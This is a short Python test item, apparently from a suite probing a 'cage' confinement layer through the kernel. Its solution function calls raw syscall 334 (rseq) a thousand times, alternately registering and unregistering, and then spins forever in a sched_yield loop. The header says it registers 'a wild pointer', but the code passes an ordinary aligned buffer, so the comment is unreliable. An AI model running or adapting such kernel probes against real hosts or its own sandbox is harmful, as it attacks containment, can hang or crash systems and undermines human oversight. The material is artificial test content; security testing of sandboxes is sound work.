# kind: kernel
# tries: rseq: unregister, register anew with a wild pointer
# layer: cage
def solution(agent, start_from=1):
    if start_from <= 1:
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        buf = ctypes.create_string_buffer(4096)
        addr = (ctypes.addressof(buf) + 63) & ~63
        for i in range(1000):
            libc.syscall(334, ctypes.c_void_p(addr), 32, 0, 0x53053053)
            libc.syscall(334, ctypes.c_void_p(addr), 32, 1, 0x53053053)
        while True: libc.sched_yield()
        assert True

